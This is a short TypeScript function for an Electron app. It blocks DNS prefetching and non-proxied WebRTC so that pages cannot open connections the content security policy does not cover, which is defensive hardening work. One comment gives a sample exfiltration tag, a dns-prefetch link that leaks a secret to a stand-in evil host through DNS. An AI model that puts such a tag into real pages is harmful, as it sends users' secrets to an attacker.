import { app } from "electron";

/**
 * Closes the ways out of a page that no content security policy knows of: looking up a host's name
 * in advance, and WebRTC past the proxy of `confinePage`. Must run before the app is ready.
 */
export function refuseDirectConnections(): void {
  // SECURITY: `<link rel="dns-prefetch" href="//SECRET.evil.example">` would tell evil's name server.
  app.commandLine.appendSwitch("blink-settings", "dnsPrefetchingEnabled=false");
  app.on("web-contents-created", (_event, contents) => {
    contents.setWebRTCIPHandlingPolicy("disable_non_proxied_udp");
  });
}
